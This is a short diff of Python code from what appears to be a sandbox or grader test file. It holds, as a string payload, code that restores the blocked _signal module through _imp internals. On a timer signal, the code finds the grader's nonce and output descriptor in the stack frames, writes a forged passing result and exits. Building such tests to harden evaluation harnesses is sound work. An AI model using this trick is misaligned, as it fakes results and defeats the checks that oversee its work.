@@ -164,13 +164,7 @@ cells = [c.cell_contents for c in _imp.create_builtin.__closure__ or ()]
 create = next((c for c in cells if getattr(c, "__name__", "") == "create_builtin"), _imp.create_builtin)
 sig = create(ModuleSpec("_signal", None))
 _imp.exec_builtin(sig)
-def forge(frame):
-    while frame is not None:
-        found = frame.f_locals
-        if "nonce" in found and "out_fd" in found:
-            os.write(found["out_fd"], ("\\n%s 1 1 1 -\\n" % found["nonce"]).encode())
-            os._exit(0)
-        frame = frame.f_back
+""" + FORGE + """
 sig.signal(14, lambda n, frame: forge(frame))
 def f(x):
     sig.setitimer(sig.ITIMER_REAL, 0.01)
